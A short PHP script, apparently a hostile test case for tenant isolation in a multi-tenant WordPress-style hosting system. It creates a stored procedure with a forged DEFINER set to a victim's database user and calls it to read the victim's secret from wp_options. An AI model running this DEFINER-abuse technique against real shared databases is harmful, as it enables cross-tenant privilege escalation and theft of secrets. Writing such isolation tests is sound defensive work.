<?php
/** License: GPL-2.0-or-later */
declare(strict_types=1);

namespace AIPress\Hostile;

$victim = target()['victim']['database'];
$database = database();
$database->query(
	"CREATE DEFINER = '$victim'@'localhost' PROCEDURE hostile() SQL SECURITY DEFINER
	SELECT option_value FROM $victim.wp_options WHERE option_name = 'secret'"
);
echo json_encode($database->query('CALL hostile()')->fetch_all());
